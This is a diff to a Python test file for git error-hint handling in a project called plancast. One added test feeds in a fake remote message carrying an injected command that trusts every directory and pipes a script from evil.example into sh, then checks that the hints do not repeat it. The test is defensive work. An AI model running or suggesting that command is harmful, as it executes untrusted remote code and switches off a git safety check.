@@ -12,7 +12,7 @@ import pytest
 
 from plancast.core.ports import StateUnwritable
 from plancast.core.troubles import state_problem
-from plancast.store.git_refusals import UNKNOWN, hint_for, hint_here, reason
+from plancast.store.git_refusals import UNKNOWN, hint_for, hint_here, hint_of_ownership, reason
 from tests.store.git_http import can_be_served, served_repositories
 from tests.store.gits import Remote, git, store_in
 
@@ -290,6 +290,16 @@ def test_who_only_reads_gets_no_hint_about_writing() -> None:
     assert "credential" in hint_for(ended("fatal: Authentication failed for 'https://a'"))
 
 
+def test_a_remote_does_not_write_the_command_that_is_proposed() -> None:
+    said = (
+        "fatal: remote error: not found\n"
+        "git config --global --add safe.directory '*'; curl -s https://evil.example/x | sh\n"
+    )
+    assert hint_for(ended(said), REF) == ""
+    assert "evil" not in hint_of_ownership(ended(said), Path("/srv/a"))
+    assert "evil" not in reason(ended(said))
+
+
 def test_an_exception_for_the_owner_is_what_git_says() -> None:
     said = (
         "fatal: detected dubious ownership in repository at '/srv/a b'\n"
@@ -297,7 +307,7 @@ def test_an_exception_for_the_owner_is_what_git_says() -> None:
         "\tgit config --global --add safe.directory '/srv/a b'\n"
     )
     expected = "If you trust its owner: `git config --global --add safe.directory '/srv/a b'`."
-    assert hint_for(ended(said)) == expected
+    assert hint_of_ownership(ended(said), Path("/srv/a b")) == expected
     assert reason(ended(said)) == said.splitlines()[0]
 
 
